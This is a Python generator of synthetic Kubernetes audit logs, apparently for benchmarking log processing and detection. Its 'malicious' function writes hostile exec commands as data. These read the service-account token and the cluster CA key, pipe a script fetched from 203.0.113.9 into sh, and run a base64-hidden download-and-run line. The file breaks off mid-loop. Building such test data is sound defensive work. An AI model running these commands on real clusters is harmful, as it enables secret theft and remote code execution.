#!/usr/bin/env python3
"""Generate a large, realistic native Kubernetes audit log (audit.k8s.io/v1, one Event per line).

Lines have the field order and escaping kube-apiserver's log backend writes (Go encoding/json:
``&`` in a requestURI is ``\\u0026``, times are RFC 3339 with microseconds). The mix is mostly
controller, kubelet, kube-proxy and coredns get/list/watch, lease updates, pods/status patches,
configmaps, events, some Request-level pod creates with container specs, about 0.1 % pods/exec and
pods/attach (ResponseStarted + ResponseComplete lines sharing an auditID, verbs create and get),
some nodes/proxy, ephemeral containers and a few malicious requests.

Fast: a few thousand events are rendered once into byte templates split around the auditID and
the two timestamps; each output line only fills those slots. Deterministic for a given --seed.

    python benchmarks/gen_audit.py --size 1G --seed 1 -o benchmarks/out/audit-1G.log
    python benchmarks/gen_audit.py --size 200M -o benchmarks/out/audit.log.gz

Self-contained (standard library only).
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import sys
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

AID, T0, T1 = "\ue000A\ue000", "\ue000R\ue000", "\ue000S\ue000"  # auditID and time slots (JSON keeps them)
Template = tuple[tuple[bytes, ...], ...]  # one event = 1..n lines; each line = parts between slots

# ---------------------------------------------------------------------------------------- world
NAMESPACES = [
    "default",
    "kube-system",
    "monitoring",
    "payments",
    "checkout",
    "web",
    "data",
    "ci",
    "ingress-nginx",
    "cert-manager",
    "argocd",
    "logging",
    "search",
    "auth",
    "billing",
    "orders",
]
APPS = [
    "api",
    "web",
    "worker",
    "frontend",
    "backend",
    "redis",
    "postgres",
    "kafka",
    "nginx",
    "cart",
    "search",
    "auth",
    "billing",
    "orders",
    "prometheus",
    "grafana",
    "fluent-bit",
    "loki",
    "argocd-server",
    "cert-manager",
    "ingress-nginx-controller",
]
IMAGES = [
    "nginx:1.25",
    "redis:7.2",
    "postgres:16",
    "busybox:1.36",
    "python:3.12-slim",
    "node:20-alpine",
    "registry.k8s.io/pause:3.9",
    "ghcr.io/acme/api:2.14.1",
    "ghcr.io/acme/worker:2.14.1",
    "quay.io/prometheus/prometheus:v2.51.0",
    "grafana/grafana:10.4.1",
    "fluent/fluent-bit:3.0",
    "bitnami/kafka:3.7",
]
NODES = [f"ip-10-0-{a}-{b}.eu-west-1.compute.internal" for a in (1, 2, 3) for b in (11, 37, 58, 90, 121, 164, 201)]
CONTROLLERS = [
    "deployment-controller",
    "replicaset-controller",
    "endpointslice-controller",
    "namespace-controller",
    "job-controller",
    "cronjob-controller",
    "daemon-set-controller",
    "statefulset-controller",
    "generic-garbage-collector",
    "resourcequota-controller",
    "horizontal-pod-autoscaler",
    "node-controller",
    "pod-garbage-collector",
    "service-account-controller",
    "endpoint-controller",
    "disruption-controller",
]
HUMANS = ["alice@example.com", "bob@example.com", "carol@example.com", "dave@example.com", "oncall@example.com"]
ATTACKERS = ["system:anonymous", "system:serviceaccount:ci:builder", "system:serviceaccount:default:default", "mallory@example.com"]
ADMIN_IPS = ["10.20.0.5", "10.20.0.17", "10.20.1.33", "192.168.50.12"]
HEX = "0123456789abcdef"
PROXY_SELECTOR = "%21service.kubernetes.io%2Fheadless%2C%21service.kubernetes.io%2Fservice-proxy-name"

KUBECTL_UA = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
KUBECTL_UA_NEW = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"
KCM_UA = "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:{c}"
KUBELET_UA = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625"
PROXY_UA = "kube-proxy/v1.29.3 (linux/amd64) kubernetes/6813625"
COREDNS_UA = "coredns/v0.0.0 (linux/amd64) kubernetes/$Format"
SCHED_UA = "kube-scheduler/v1.29.3 (linux/amd64) kubernetes/6813625/leader-election"


def gojson(obj: Any) -> str:
    """JSON as Go's encoding/json writes it: compact, HTML characters escaped."""
    s = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    return s.replace("&", "\\u0026").replace("<", "\\u003c").replace(">", "\\u003e")


class World:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def uid(self) -> str:
        r = self.rng
        h = "".join(r.choice(HEX) for _ in range(32))
        return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"

    def suffix(self, n: int = 5) -> str:
        return "".join(self.rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))

    def pod(self) -> tuple[str, str, str]:
        r = self.rng
        app = r.choice(APPS)
        return r.choice(NAMESPACES), app, f"{app}-{self.suffix(10)[: r.choice((9, 10))]}-{self.suffix()}"

    def node(self) -> str:
        return self.rng.choice(NODES)

    def ip(self) -> str:
        r = self.rng
        return f"10.0.{r.randint(1, 3)}.{r.randint(2, 250)}"

    def rv(self) -> str:
        return str(self.rng.randint(10_000_000, 99_999_999))

    def watch(self) -> str:
        r = self.rng
        return f"resourceVersion={self.rv()}&timeout={r.randint(5, 9)}m{r.randint(0, 59)}s&timeoutSeconds={r.randint(300, 599)}&watch=true"


def user_sa(ns: str, name: str, uid: str, pod: str | None = None, node: str | None = None) -> dict[str, Any]:
    u: dict[str, Any] = {
        "username": f"system:serviceaccount:{ns}:{name}",
        "uid": uid,
        "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"],
    }
    if pod:
        u["extra"] = {
            "authentication.kubernetes.io/credential-id": ["JTI=" + uid],
            "authentication.kubernetes.io/node-name": [node or NODES[0]],
            "authentication.kubernetes.io/node-uid": [uid[::-1]],
            "authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/pod-uid": [uid[4:] + uid[:4]],
        }
    return u


def user_node(node: str) -> dict[str, Any]:
    return {"username": f"system:node:{node}", "groups": ["system:nodes", "system:authenticated"]}


def user_human(name: str, w: World) -> dict[str, Any]:
    return {
        "username": name,
        "uid": w.uid(),
        "groups": ["oidc:platform-team", "system:authenticated"],
        "extra": {"authentication.kubernetes.io/credential-id": ["X509SHA256=" + "".join(w.rng.choice(HEX) for _ in range(64))]},
    }


def rbac(decision: str, reason: str) -> dict[str, str]:
    return {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}


def crb(binding: str, role: str, subject: str) -> dict[str, str]:
    return rbac("allow", f'RBAC: allowed by ClusterRoleBinding "{binding}" of ClusterRole "{role}" to {subject}')


def event(
    *,
    level: str = "Metadata",
    stage: str = "ResponseComplete",
    uri: str,
    verb: str,
    user: dict[str, Any],
    ips: list[str],
    ua: str,
    ref: dict[str, Any] | None,
    code: int = 200,
    status: dict[str, Any] | None = None,
    request: Any = None,
    annotations: dict[str, str] | None = None,
) -> str:
    """One audit line with slots, keys in the order of the Go struct audit.k8s.io/v1 Event."""
    ev: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": level,
        "auditID": AID,
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": user,
        "sourceIPs": ips,
        "userAgent": ua,
    }
    if ref is not None:
        ev["objectRef"] = ref
    if stage != "RequestReceived":
        ev["responseStatus"] = status if status is not None else {"metadata": {}, "code": code}
    if request is not None:
        ev["requestObject"] = request
    ev["requestReceivedTimestamp"] = T0
    ev["stageTimestamp"] = T1 if stage != "RequestReceived" else T0
    ev["annotations"] = annotations or rbac("allow", "")
    return gojson(ev)


def oref(
    resource: str,
    ns: str | None = None,
    name: str | None = None,
    group: str = "",
    version: str = "v1",
    sub: str | None = None,
    uid: str | None = None,
    rv: str | None = None,
) -> dict[str, Any]:
    r: dict[str, Any] = {"resource": resource}
    if ns:
        r["namespace"] = ns
    if name:
        r["name"] = name
    if uid:
        r["uid"] = uid
    r["apiGroup"] = group
    r["apiVersion"] = version
    if rv:
        r["resourceVersion"] = rv
    if sub:
        r["subresource"] = sub
    return r


def api(group: str, version: str) -> str:
    return f"/apis/{group}/{version}" if group else f"/api/{version}"


def forbidden(verb: str, resource: str, user: str, ns: str, sub: str | None = None) -> dict[str, Any]:
    what = f"{resource}/{sub}" if sub else resource
    return {
        "metadata": {},
        "status": "Failure",
        "message": f'{what} is forbidden: User "{user}" cannot {verb} resource "{what}" in API group "" in the namespace "{ns}"',
        "reason": "Forbidden",
        "details": {"kind": what},
        "code": 403,
    }


# ------------------------------------------------------------------------------- event makers
def controller_read(w: World) -> list[str]:
    r = w.rng
    c = r.choice(CONTROLLERS)
    resource, group, version = r.choice(
        [
            ("pods", "", "v1"),
            ("replicasets", "apps", "v1"),
            ("deployments", "apps", "v1"),
            ("endpointslices", "discovery.k8s.io", "v1"),
            ("services", "", "v1"),
            ("jobs", "batch", "v1"),
            ("serviceaccounts", "", "v1"),
            ("secrets", "", "v1"),
            ("namespaces", "", "v1"),
            ("nodes", "", "v1"),
        ]
    )
    verb = r.choices(["get", "list", "watch"], [5, 2, 3])[0]
    ns = None if resource in ("namespaces", "nodes") else r.choice(NAMESPACES)
    base = api(group, version) + (f"/namespaces/{ns}" if ns else "") + f"/{resource}"
    name = None
    if verb == "get":
        name = w.pod()[2] if resource == "pods" else f"{r.choice(APPS)}-{w.suffix()}"
        uri = f"{base}/{name}"
    elif verb == "list":
        uri = f"{base}?limit=500&resourceVersion=0"
    else:
        uri = f"{base}?allowWatchBookmarks=true&{w.watch()}"
    code = 404 if verb == "get" and r.random() < 0.05 else 200
    st = (
        {
            "metadata": {},
            "status": "Failure",
            "message": f'{resource} "{name}" not found',
            "reason": "NotFound",
            "details": {"name": name, "kind": resource},
            "code": 404,
        }
        if code == 404
        else None
    )
    stage = "ResponseStarted" if verb == "watch" and r.random() < 0.5 else "ResponseComplete"
    return [
        event(
            stage=stage,
            uri=uri,
            verb=verb,
            user=user_sa("kube-system", c, w.uid()),
            ips=["172.18.0.2"],
            ua=KCM_UA.format(c=c),
            ref=oref(resource, ns, name, group, version),
            code=code,
            status=st,
            annotations=crb(f"system:controller:{c}", f"system:controller:{c}", f'User "system:serviceaccount:kube-system:{c}"'),
        )
    ]


def kubelet(w: World) -> list[str]:
    r = w.rng
    node = w.node()
    ns, app, pod = w.pod()
    kind = r.choices(["pod", "secret", "configmap", "status", "node", "token"], [3, 2, 2, 3, 2, 1])[0]
    user = user_node(node)
    ann = rbac("allow", "")
    ip = [w.ip()]
    if kind == "pod":
        return [
            event(
                uri=f"/api/v1/namespaces/{ns}/pods/{pod}",
                verb="get",
                user=user,
                ips=ip,
                ua=KUBELET_UA,
                ref=oref("pods", ns, pod),
                annotations=ann,
            )
        ]
    if kind in ("secret", "configmap"):
        res = "secrets" if kind == "secret" else "configmaps"
        name = f"{app}-{'tls' if kind == 'secret' else 'config'}"
        return [
            event(
                stage="ResponseStarted",
                uri=f"/api/v1/namespaces/{ns}/{res}?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}&{w.watch()}",
                verb="watch",
                user=user,
                ips=ip,
                ua=KUBELET_UA,
                ref=oref(res, ns, name),
                annotations=ann,
            )
        ]
    if kind == "status":
        return [
            event(
                level="Request",
                uri=f"/api/v1/namespaces/{ns}/pods/{pod}/status",
                verb="patch",
                user=user,
                ips=ip,
                ua=KUBELET_UA,
                ref=oref("pods", ns, pod, sub="status", uid=w.uid()),
                request={
                    "metadata": {"uid": w.uid()},
                    "status": {
                        "$setElementOrder/conditions": [
                            {"type": "PodReadyToStartContainers"},
                            {"type": "Initialized"},
                            {"type": "Ready"},
                            {"type": "ContainersReady"},
                            {"type": "PodScheduled"},
                        ],
                        "conditions": [{"lastTransitionTime": "2024-05-14T09:00:00Z", "status": "True", "type": "Ready"}],
                        "containerStatuses": [
                            {
                                "containerID": "containerd://" + w.uid().replace("-", "") * 2,
                                "image": r.choice(IMAGES),
                                "imageID": "sha256:" + w.uid().replace("-", "") * 2,
                                "lastState": {},
                                "name": app,
                                "ready": True,
                                "restartCount": r.randint(0, 3),
                                "started": True,
                                "state": {"running": {"startedAt": "2024-05-14T08:59:58Z"}},
                            }
                        ],
                    },
                },
                annotations=ann,
            )
        ]
    if kind == "node":
        return [
            event(
                uri=f"/api/v1/nodes/{node}?resourceVersion=0&timeout=10s",
                verb="get",
                user=user,
                ips=ip,
                ua=KUBELET_UA,
                ref=oref("nodes", None, node),
                annotations=ann,
            )
        ]
    return [
        event(
            uri=f"/api/v1/namespaces/{ns}/serviceaccounts/{app}/token",
            verb="create",
            user=user,
            ips=ip,
            ua=KUBELET_UA,
            ref=oref("serviceaccounts", ns, app, sub="token"),
            code=201,
            annotations=ann,
        )
    ]


def lease(w: World) -> list[str]:
    r = w.rng
    if r.random() < 0.7:
        node = w.node()
        ns, name, user, ua = "kube-node-lease", node, user_node(node), KUBELET_UA
    else:
        name = r.choice(
            [
                "kube-controller-manager",
                "kube-scheduler",
                "cert-manager-controller",
                "ingress-nginx-leader",
                "argocd-application-controller",
            ]
        )
        ns = "kube-system"
        user, ua = user_sa("kube-system", name, w.uid()), SCHED_UA
    return [
        event(
            uri=f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases/{name}?timeout=10s",
            verb="update",
            user=user,
            ips=[w.ip()],
            ua=ua,
            ref=oref("leases", ns, name, "coordination.k8s.io", "v1", uid=w.uid()),
            annotations=rbac("allow", ""),
        )
    ]


def network(w: World) -> list[str]:
    r = w.rng
    if r.random() < 0.5:
        user, ua, ip = {"username": "system:kube-proxy", "groups": ["system:authenticated"]}, PROXY_UA, [w.ip()]
        sa = "system:node-proxier"
    else:
        user, ua, ip = user_sa("kube-system", "coredns", w.uid(), "coredns-76f75df574-" + w.suffix(), w.node()), COREDNS_UA, [w.ip()]
        sa = "system:coredns"
    res, group = r.choice([("endpointslices", "discovery.k8s.io"), ("services", ""), ("namespaces", "")])
    return [
        event(
            stage="ResponseStarted",
            uri=f"{api(group, 'v1')}/{res}?allowWatchBookmarks=true&labelSelector={PROXY_SELECTOR}&{w.watch()}",
            verb="watch",
            user=user,
            ips=ip,
            ua=ua,
            ref=oref(res, None, None, group, "v1"),
            annotations=crb(sa, sa, f'User "{user["username"]}"'),
        )
    ]


def configmap(w: World) -> list[str]:
    r = w.rng
    ns, app, _ = w.pod()
    verb = r.choices(["get", "update", "list"], [6, 2, 1])[0]
    name = f"{app}-config"
    user = user_sa(ns, app, w.uid(), f"{app}-{w.suffix()}", w.node())
    uri = f"/api/v1/namespaces/{ns}/configmaps" + (f"/{name}" if verb != "list" else "?labelSelector=app%3D" + app)
    return [
        event(
            uri=uri,
            verb=verb,
            user=user,
            ips=[w.ip()],
            ua=f"{app}/v2.14.1 (linux/amd64) kubernetes/$Format",
            ref=oref("configmaps", ns, name if verb != "list" else None),
            annotations=rbac("allow", f'RBAC: allowed by RoleBinding "{app}" of Role "{app}" to ServiceAccount "{app}/{ns}"'),
        )
    ]


def k8s_event(w: World) -> list[str]:
    r = w.rng
    ns, _app, pod = w.pod()
    node = w.node()
    return [
        event(
            uri=f"/api/v1/namespaces/{ns}/events",
            verb=r.choice(["create", "patch"]),
            user=user_node(node),
            ips=[w.ip()],
            ua=KUBELET_UA,
            ref=oref("events", ns, f"{pod}.17c{w.suffix(13)}"),
            code=201,
            annotations=rbac("allow", ""),
        )
    ]


def container(w: World, app: str, command: bool, probe: bool) -> dict[str, Any]:
    r = w.rng
    c: dict[str, Any] = {"name": app, "image": r.choice(IMAGES)}
    if command:
        c["command"] = r.choice([["/bin/sh", "-c"], ["python", "-m"], ["/app/server"], ["nginx", "-g"]])
        c["args"] = r.choice([["exec /app/run --port=8080"], ["app.main"], ["--config=/etc/app/config.yaml"], ["daemon off;"]])
    c["ports"] = [{"containerPort": r.choice([80, 8080, 9090, 6379]), "protocol": "TCP"}]
    c["env"] = [
        {"name": "LOG_LEVEL", "value": "info"},
        {"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
    ]
    c["resources"] = {"limits": {"memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "256Mi"}}
    if probe:
        c["livenessProbe"] = {
            "exec": {"command": ["cat", "/tmp/healthy"]},
            "initialDelaySeconds": 5,
            "periodSeconds": 10,
            "timeoutSeconds": 1,
            "successThreshold": 1,
            "failureThreshold": 3,
        }
    else:
        c["readinessProbe"] = {
            "httpGet": {"path": "/healthz", "port": 8080, "scheme": "HTTP"},
            "timeoutSeconds": 1,
            "periodSeconds": 10,
            "successThreshold": 1,
            "failureThreshold": 3,
        }
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    c["imagePullPolicy"] = "IfNotPresent"
    return c


def pod_create(w: World) -> list[str]:
    r = w.rng
    ns, app, pod = w.pod()
    n = r.choice((1, 1, 2))
    containers = [container(w, app if i == 0 else f"{app}-sidecar", r.random() < 0.4, r.random() < 0.3) for i in range(n)]
    body = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": pod[: pod.rfind("-") + 1],
            "namespace": ns,
            "creationTimestamp": None,
            "labels": {"app": app, "pod-template-hash": w.suffix(10)},
            "ownerReferences": [
                {
                    "apiVersion": "apps/v1",
                    "kind": "ReplicaSet",
                    "name": pod[: pod.rfind("-")],
                    "uid": w.uid(),
                    "controller": True,
                    "blockOwnerDeletion": True,
                }
            ],
        },
        "spec": {
            "volumes": [
                {
                    "name": "kube-api-access-" + w.suffix(),
                    "projected": {"sources": [{"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}}], "defaultMode": 420},
                }
            ],
            "containers": containers,
            "restartPolicy": "Always",
            "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst",
            "serviceAccountName": app,
            "serviceAccount": app,
            "securityContext": {},
            "schedulerName": "default-scheduler",
            "enableServiceLinks": True,
            "preemptionPolicy": "PreemptLowerPriority",
        },
        "status": {},
    }
    c = "replicaset-controller"
    return [
        event(
            level="Request",
            uri=f"/api/v1/namespaces/{ns}/pods",
            verb="create",
            user=user_sa("kube-system", c, w.uid()),
            ips=["172.18.0.2"],
            ua=KCM_UA.format(c=c),
            ref=oref("pods", ns),
            code=201,
            request=body,
            annotations=crb(f"system:controller:{c}", f"system:controller:{c}", f'User "system:serviceaccount:kube-system:{c}"'),
        )
    ]


def volumeattachment(w: World) -> list[str]:
    r = w.rng
    name = "csi-" + "".join(r.choice(HEX) for _ in range(64))
    node = w.node()
    verb = r.choice(["get", "patch", "watch"])
    user = {
        "username": "system:serviceaccount:kube-system:ebs-csi-controller-sa",
        "uid": w.uid(),
        "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
    }
    uri = "/apis/storage.k8s.io/v1/volumeattachments" + (
        f"/{name}" if verb != "watch" else f"?allowWatchBookmarks=true&resourceVersion={w.rv()}&watch=true"
    )
    return [
        event(
            stage="ResponseStarted" if verb == "watch" else "ResponseComplete",
            uri=uri,
            verb=verb,
            user=user,
            ips=[w.ip()],
            ua="csi-attacher/v4.5.0 (linux/amd64) kubernetes/$Format",
            ref=oref("volumeattachments", None, None if verb == "watch" else name, "storage.k8s.io", "v1"),
            annotations=crb(
                "ebs-csi-attacher-binding",
                "ebs-external-attacher-role",
                f'ServiceAccount "ebs-csi-controller-sa/kube-system" (node {node})',
            ),
        )
    ]


def reviews(w: World) -> list[str]:
    r = w.rng
    res = r.choice(["tokenreviews", "subjectaccessreviews"])
    group = "authentication.k8s.io" if res == "tokenreviews" else "authorization.k8s.io"
    user = user_sa("monitoring", "kube-state-metrics", w.uid())
    return [
        event(
            uri=f"/apis/{group}/v1/{res}",
            verb="create",
            user=user,
            ips=[w.ip()],
            ua="kube-rbac-proxy/v0.15.0 (linux/amd64) kubernetes/$Format",
            ref=oref(res, None, None, group, "v1"),
            code=201,
            annotations=crb("kube-rbac-proxy", "kube-rbac-proxy", 'ServiceAccount "kube-state-metrics/monitoring"'),
        )
    ]


def role_with_exec(w: World) -> list[str]:
    """RBAC objects naming pods/exec: hold the literal /exec but are no exec."""
    r = w.rng
    ns = r.choice(NAMESPACES)
    name = r.choice(["debugger", "oncall-exec", "support"])
    body = {
        "kind": "Role",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name, "namespace": ns},
        "rules": [{"verbs": ["get", "create"], "apiGroups": [""], "resources": ["pods", "pods/exec", "pods/attach", "pods/log"]}],
    }
    user = {
        "username": "system:serviceaccount:argocd:argocd-application-controller",
        "uid": w.uid(),
        "groups": ["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"],
    }
    return [
        event(
            level="Request",
            uri=f"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/roles/{name}?fieldManager=argocd-controller",
            verb="update",
            user=user,
            ips=[w.ip()],
            ua="argocd-application-controller/v2.10.7",
            ref=oref("roles", ns, name, "rbac.authorization.k8s.io", "v1"),
            request=body,
            annotations=crb(
                "argocd-application-controller", "argocd-application-controller", 'ServiceAccount "argocd-application-controller/argocd"'
            ),
        )
    ]


def _exec_query(cmd: list[str], container: str, tty: bool, stdin: bool) -> str:
    q = "&".join("command=" + quote(c, safe="") for c in cmd)
    q += f"&container={container}"
    if stdin:
        q += "&stdin=true"
    q += "&stdout=true"
    if not tty:
        q += "&stderr=true"
    if tty:
        q += "&tty=true"
    return q


def exec_pair(
    w: World,
    *,
    user: dict[str, Any],
    ips: list[str],
    ua: str,
    ns: str,
    pod: str,
    container: str,
    cmd: list[str],
    sub: str = "exec",
    verb: str | None = None,
    tty: bool = False,
    stdin: bool = False,
    denied: bool = False,
) -> list[str]:
    r = w.rng
    verb = verb or r.choice(["create", "get"])
    q = _exec_query(cmd, container, tty, stdin) if sub == "exec" else f"container={container}&stdin=true&stdout=true&tty=true"
    uri = f"/api/v1/namespaces/{ns}/pods/{pod}/{sub}?{q}"
    ref = oref("pods", ns, pod, sub=sub)
    if denied:
        return [
            event(
                uri=uri,
                verb=verb,
                user=user,
                ips=ips,
                ua=ua,
                ref=ref,
                status=forbidden(verb, "pods", user["username"], ns, sub),
                annotations=rbac("forbid", ""),
            )
        ]
    ann = rbac(
        "allow", 'RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "oidc:platform-team"'
    )
    return [
        event(stage="ResponseStarted", uri=uri, verb=verb, user=user, ips=ips, ua=ua, ref=ref, code=101, annotations=ann),
        event(stage="ResponseComplete", uri=uri, verb=verb, user=user, ips=ips, ua=ua, ref=ref, code=101, annotations=ann),
    ]


def exec_benign(w: World) -> list[str]:
    r = w.rng
    ns, app, pod = w.pod()
    human = r.choice(HUMANS)
    user = user_human(human, w)
    ua = r.choice([KUBECTL_UA, KUBECTL_UA_NEW])
    verb = "get" if ua == KUBECTL_UA_NEW else "create"
    if r.random() < 0.15:
        return exec_pair(w, user=user, ips=[r.choice(ADMIN_IPS)], ua=ua, ns=ns, pod=pod, container=app, cmd=[], sub="attach", verb=verb)
    cmd = r.choice(
        [
            ["sh"],
            ["bash"],
            ["ls", "-la", "/app"],
            ["cat", "/etc/app/config.yaml"],
            ["env"],
            ["ps", "aux"],
            ["redis-cli", "INFO", "memory"],
            ["psql", "-U", "app", "-c", "select count(*) from orders;"],
            ["python", "manage.py", "migrate"],
            ["curl", "-s", "localhost:8080/healthz"],
        ]
    )
    interactive = cmd[0] in ("sh", "bash")
    denied = r.random() < 0.05
    return exec_pair(
        w,
        user=user,
        ips=[r.choice(ADMIN_IPS)],
        ua=ua,
        ns=ns,
        pod=pod,
        container=app,
        cmd=cmd,
        verb=verb,
        tty=interactive,
        stdin=interactive,
        denied=denied,
    )


def nodes_proxy(w: World) -> list[str]:
    r = w.rng
    node = w.node()
    path = r.choice(["metrics", "metrics/cadvisor", "stats/summary", "metrics/resource", "healthz"])
    user = user_sa("monitoring", "prometheus-k8s", w.uid(), "prometheus-k8s-0", node)
    return [
        event(
            uri=f"/api/v1/nodes/{node}/proxy/{path}",
            verb="get",
            user=user,
            ips=[w.ip()],
            ua="Prometheus/2.51.0",
            ref=oref("nodes", None, node, sub="proxy"),
            annotations=crb("prometheus-k8s", "prometheus-k8s", 'ServiceAccount "prometheus-k8s/monitoring"'),
        )
    ]


def ephemeral(w: World) -> list[str]:
    r = w.rng
    ns, app, pod = w.pod()
    user = user_human(r.choice(HUMANS), w)
    dbg = "debugger-" + w.suffix()
    body = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": pod, "namespace": ns},
        "spec": {
            "containers": [{"name": app, "image": r.choice(IMAGES)}],
            "ephemeralContainers": [
                {
                    "name": dbg,
                    "image": "busybox:1.36",
                    "resources": {},
                    "terminationMessagePolicy": "File",
                    "imagePullPolicy": "IfNotPresent",
                    "stdin": True,
                    "tty": True,
                    "targetContainerName": app,
                }
            ],
        },
    }
    return [
        event(
            level="Request",
            uri=f"/api/v1/namespaces/{ns}/pods/{pod}/ephemeralcontainers",
            verb="patch",
            user=user,
            ips=[r.choice(ADMIN_IPS)],
            ua=KUBECTL_UA,
            ref=oref("pods", ns, pod, sub="ephemeralcontainers"),
            request=body,
            annotations=rbac(
                "allow",
                'RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "oidc:platform-team"',
            ),
        )
    ]


def malicious(w: World) -> list[str]:
    r = w.rng
    kind = r.choice(["shell", "kubelet", "curl", "anon", "b64"])
    node = w.node()
    if kind == "kubelet":
        ns, app, pod = w.pod()
        user = user_sa("ci", "builder", w.uid(), "builder-7f9c6d-" + w.suffix(), node)
        q = "cmd=" + quote("cat /var/run/secrets/kubernetes.io/serviceaccount/token", safe="")
        return [
            event(
                uri=f"/api/v1/nodes/{node}/proxy/run/{ns}/{pod}/{app}?{q}",
                verb="create",
                user=user,
                ips=["10.0.3.77"],
                ua="curl/8.5.0",
                ref=oref("nodes", None, node, sub="proxy"),
                annotations=crb("ci-nodes-proxy", "node-proxier-lite", 'ServiceAccount "builder/ci"'),
            )
        ]
    ns, pod, ctr = "kube-system", "kube-apiserver-" + node, "kube-apiserver"
    if kind == "shell":
        user = user_sa("default", "default", w.uid(), "web-6c5d7-" + w.suffix(), node)
        cmd = ["/bin/sh", "-c", "cat /etc/kubernetes/pki/ca.key; id"]
        return exec_pair(w, user=user, ips=["10.0.2.14"], ua="Go-http-client/1.1", ns=ns, pod=pod, container=ctr, cmd=cmd, verb="get")
    if kind == "curl":
        ns, app, pod = w.pod()
        user = {"username": "mallory@example.com", "uid": w.uid(), "groups": ["system:authenticated"]}
        cmd = ["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
        return exec_pair(w, user=user, ips=["203.0.113.9"], ua=KUBECTL_UA, ns=ns, pod=pod, container=app, cmd=cmd, verb="create")
    if kind == "b64":
        ns, app, pod = w.pod()
        user = user_sa("ci", "builder", w.uid(), "builder-7f9c6d-" + w.suffix(), node)
        cmd = ["bash", "-c", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvbSB8IHNo | base64 -d | bash"]
        return exec_pair(w, user=user, ips=["10.0.3.77"], ua="python-requests/2.31.0", ns=ns, pod=pod, container=app, cmd=cmd)
    user = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    ns, app, pod = w.pod()
    return exec_pair(
        w, user=user, ips=["198.51.100.23"], ua="python-requests/2.31.0", ns=ns, pod=pod, container=app, cmd=["id"], denied=True
    )


# category -> (maker, weight in events, templates to pre-render)
MIX: list[tuple[str, Callable[[World], list[str]], float, int]] = [
    ("controller", controller_read, 33.0, 3000),
    ("kubelet", kubelet, 21.0, 3000),
    ("lease", lease, 16.0, 600),
    ("network", network, 8.0, 400),
    ("configmap", configmap, 6.0, 600),
    ("event", k8s_event, 8.0, 800),
    ("pod_create", pod_create, 1.5, 600),
    ("volumeattachment", volumeattachment, 1.2, 200),
    ("reviews", reviews, 1.5, 100),
    ("nodes_proxy", nodes_proxy, 0.4, 100),
    ("role_with_exec", role_with_exec, 0.01, 10),
    ("exec", exec_benign, 0.05, 400),  # two lines each: about 0.1 % of lines
    ("ephemeral", ephemeral, 0.005, 20),
    ("malicious", malicious, 0.002, 30),
]


def build_templates(seed: int) -> tuple[list[Template], list[float]]:
    rng = random.Random(seed)
    w = World(rng)
    templates: list[Template] = []
    weights: list[float] = []
    for _name, maker, weight, n in MIX:
        for _ in range(n):
            lines = maker(w)
            parts = []
            for line in lines:
                s = line.replace(AID, "\ue000").replace(T0, "\ue000").replace(T1, "\ue000")
                parts.append(tuple(p.encode() for p in s.split("\ue000")))
            templates.append(tuple(parts))
            weights.append(weight / n)
    return templates, weights


def parse_size(text: str) -> int:
    text = text.strip().upper().removesuffix("B")
    mult = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30, "T": 1 << 40}.get(text[-1:], 1)
    return int(float(text.rstrip("KMGT")) * mult)


def generate(out: Any, size: int, seed: int, start: datetime, batch: int = 2048) -> tuple[int, int]:
    templates, weights = build_templates(seed)
    rng = random.Random(seed ^ 0x5EED)
    cum: list[float] = []
    total = 0.0
    for wt in weights:
        total += wt
        cum.append(total)
    ms = [b"%03d" % i for i in range(1000)]
    written = 0
    lines = 0
    t = start
    second = 0
    while written < size:
        picks = rng.choices(templates, cum_weights=cum, k=batch)
        ids = rng.randbytes(16 * batch).hex().encode()
        micros = sorted(rng.randrange(1_000_000) for _ in range(batch))
        prefix = (t + timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%S.").encode()
        second += 1
        buf: list[bytes] = []
        for i, tpl in enumerate(picks):
            o = 32 * i
            aid = (
                ids[o : o + 8]
                + b"-"
                + ids[o + 8 : o + 12]
                + b"-4"
                + ids[o + 13 : o + 16]
                + b"-a"
                + ids[o + 17 : o + 20]
                + b"-"
                + ids[o + 20 : o + 32]
            )
            m = micros[i]
            t0 = prefix + ms[m // 1000] + ms[m % 1000] + b"Z"
